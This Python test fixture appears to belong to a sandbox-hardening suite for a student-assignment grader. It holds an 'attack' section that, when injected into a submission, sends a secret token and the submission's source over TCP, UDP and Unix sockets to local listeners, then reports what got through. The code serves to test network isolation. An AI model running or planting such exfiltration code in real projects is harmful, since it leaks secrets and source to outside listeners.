"""The network: connecting to listeners on every address of the machine.

Not imported, not collected: tests/attack_recipes.py reads this file as text and splits it at
its `# ---- attack: <name>` lines. Each section is the code of one attack, appended (after the
prelude, prelude.py) to the cs231n/layers.py of one submission: at module level it runs at
import, and the functions it defines replace the stubs. Names starting with `_atk`, `_ATK` or
`_Atk` that a section does not define come from the prelude.
"""


# ---- attack: network -----------------------------------------------------------------------------

def _atk_network():
    import socket
    payload = b"LEAK " + _ATK["token"].encode() + b"\n"
    try:
        with open(_atk_os.path.join(_atk_own_package(), "layers.py"), "rb") as stream:
            payload += stream.read()[:65536]
    except OSError:
        pass
    tried, connected, sent = 0, [], []
    for address in ["127.0.0.1", "::1", "localhost", *_ATK["addresses"]]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        tried += 2
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(1.0)
                connection.connect((address, _ATK["tcp_port"]))
                connection.sendall(payload)
                connected.append(address)
        except OSError:
            pass
        try:  # a datagram may be "sent" inside an empty network namespace: it goes nowhere
            with socket.socket(family, socket.SOCK_DGRAM) as connection:
                connection.sendto(payload[:1400], (address, _ATK["udp_port"]))
                sent.append(address)
        except OSError:
            pass
    for name in (_ATK["unix_socket"], "\0" + _ATK["abstract_socket"]):
        tried += 1
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
                connection.settimeout(1.0)
                connection.connect(name)
                connection.sendall(payload)
                connected.append("unix")
        except OSError:
            pass
    return _atk_report("NET", tried=tried, connected=len(connected), udp_sent=len(sent),
                       first=(connected or ["none"])[0])


_ATK_NET = [_atk_network()]


def _atk_networking(stub):
    def call(*args, **kwargs):
        if len(_ATK_NET) < 4:
            _ATK_NET.append(_atk_network())
        raise RuntimeError(_ATK_NET[-1])
    return call


_atk_replace_stubs(_atk_networking)
